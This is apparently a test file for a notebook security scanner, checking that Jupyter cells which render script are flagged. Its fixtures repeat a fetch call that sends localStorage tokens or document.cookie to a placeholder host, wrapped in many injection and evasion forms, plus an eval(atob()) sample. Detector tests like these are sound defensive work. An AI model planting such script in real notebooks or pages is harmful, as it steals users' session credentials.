// What cells show in the browser of whoever runs them.
import { describe, expect, it } from 'vitest';
import { spokenPages } from '../../../src/format/notebook/spoken-pages.ts';
import type { Finding } from '../../../src/core/finding.ts';
import { inspectBytes } from '../../support/inspect.ts';

const notebook = (source: string): string =>
  JSON.stringify(
    {
      cells: [
        {
          cell_type: 'code',
          execution_count: null,
          metadata: {},
          outputs: [],
          source: source.split(/(?<=\n)/),
        },
      ],
      metadata: {},
      nbformat: 4,
      nbformat_minor: 5,
    },
    null,
    1,
  );

async function told(source: string): Promise<readonly Finding[]> {
  const { findings } = await inspectBytes(Buffer.from(notebook(source)), 'a.ipynb');
  return findings.filter(({ rule }) => rule.startsWith('NOTEBOOK-') || rule.startsWith('CODE-'));
}

const SENT = "fetch('https://c.example.invalid/?' + localStorage.getItem('t'))";
const PAGE = 'NOTEBOOK-CELL-PAGE';

describe('a page or a script that a cell shows', () => {
  it.each([
    [`display(HTML("<script>${SENT}</script>"))`, 'HIGH'],
    [`IPython.display.HTML(data='''\n<script>\n${SENT}\n</script>''')`, 'HIGH'],
    [`HTML("<scr" "ipt>${SENT}</scr"\n     "ipt>")`, 'HIGH'],
    [`HTML('<img src=x onerror="${SENT.replaceAll("'", '&quot;')}">')`, 'HIGH'],
    [`Javascript(f"${SENT}")`, 'HIGH'],
    [`page = "<script>${SENT}</script>"\ndisplay(HTML(page))`, 'HIGH'],
    [`def show():\n    page: str = ("<script>"\n        "${SENT}</script>")\n    HTML(data=page)`, 'HIGH'],
    [`page = "<script>"\npage += f"${SENT}"\npage += "</script>"\nHTML(page)`, 'HIGH'],
    [`HTML("<script>{}</script>".format(1))\nscript = "${SENT}"\nJavascript(script)`, 'HIGH'],
    [`page = "<script>${SENT}</script>"\ndisplay({"text/html": page}, raw=True)`, 'HIGH'],
    [`display({'text/html': "<script>${SENT}</script>"}, raw=True)`, 'HIGH'],
    [`class A:\n    def _repr_html_(self):\n        return "<script>${SENT}</script>"`, 'HIGH'],
    [`widgets.HTML(value='<img src=x onerror="${SENT.replaceAll("'", '&quot;')}">')`, 'HIGH'],
    [`%%javascript\n${SENT}`, 'HIGH'],
    [`%%html\n<script>${SENT}</script>`, 'HIGH'],
    [`Javascript("fetch('https://c.example.invalid/?' + document.cookie)")`, 'HIGH'],
    [`Javascript("fetch(\\"https://c.example.invalid/?\\" + document.cookie)")`, 'HIGH'],
    ['HTML("<script src=\\"https://c.example.invalid/a.js\\"></script>")', 'LOW'],
    [`Javascript('IPython.notebook.kernel.execute("name = 1")')`, 'LOW'],
  ])('is judged by what it reaches: %s', async (source, severity) => {
    const found = (await told(source)).filter(({ rule }) => rule === PAGE);
    expect(found.map((each) => each.severity)).toContain(severity);
  });

  it.each([
    `page = "<script>${SENT}</script>"\nprint(page)`,
    `page = "<b>1</b>"\nother = "<script>${SENT}</script>"\nHTML(page)`,
    `page = "<script>element.text(1)</script>"\nHTML(page)`,
    `HTML(page)\npage == "<script>${SENT}</script>"`,
    `headers = {"Accept": "text/html", "x": "<script>${SENT}</script>"}`,
  ])('is none of what is not shown, or does nothing: %s', async (source) => {
    expect((await told(source)).filter(({ rule }) => rule === PAGE)).toEqual([]);
  });

  it('stands where its text does', async () => {
    const found = await told(`page = "<b>1</b>"\npage = """\n<script>\n${SENT}</script>"""\nHTML(page)`);
    expect(found.find(({ rule }) => rule === PAGE)?.location.line).toBe(12);
  });

  it('is told once where something is reached for and sent', async () => {
    const found = await told(`Javascript("fetch('https://c.example.invalid/?' + document.cookie)")`);
    expect(found.map(({ severity }) => severity)).toEqual(['HIGH']);
  });

  it('goes to the rules for programs as well', async () => {
    const found = await told(
      `HTML("""<p>1</p>\n<script>\neval(atob("YWxlcnQoMSk7YWxlcnQoMik="))</script>""")`,
    );
    expect(found).toMatchObject([{ rule: 'CODE-DECODE-EXECUTE', location: { cell: 1 } }]);
  });

  it('is told on its line', async () => {
    const source = `a = 1\nHTML("""<p>1</p>\n<script>\ndraw()\n${SENT}\n</script>""")\n`;
    const line =
      notebook(source)
        .split('\n')
        .findIndex((each) => each.includes('fetch')) + 1;
    expect((await told(source)).map(({ location }) => location.line)).toEqual([line]);
  });

  it.each([
    'HTML("<style>.container { width: 100% }</style>")',
    `HTML("<script src='https://cdn.plot.ly/plotly-2.35.2.min.js'></script>")`,
    `Javascript("localStorage.setItem('a', 'b'); fetch('/api/status')")`,
    'HTML(filename="a.html")',
    'HTML(df.to_html())',
    `print("HTML('<p>')")`,
    '%%javascript\ndocument.title = document.cookie',
  ])('may be anything else: %s', async (source) => {
    expect((await told(source)).filter(({ severity }) => severity !== 'LOW' && severity !== 'INFO')).toEqual(
      [],
    );
  });

  it.each([
    ['HTML("'.repeat(100_000), 200],
    [`HTML(${'"a" '.repeat(200_000)}`, 1],
    [`HTML("${'\\'.repeat(400_000)}`, 1],
  ])('comes to an end with whatever is repeated (%#)', (text, count) => {
    expect(spokenPages(text)).toHaveLength(count);
  });
});
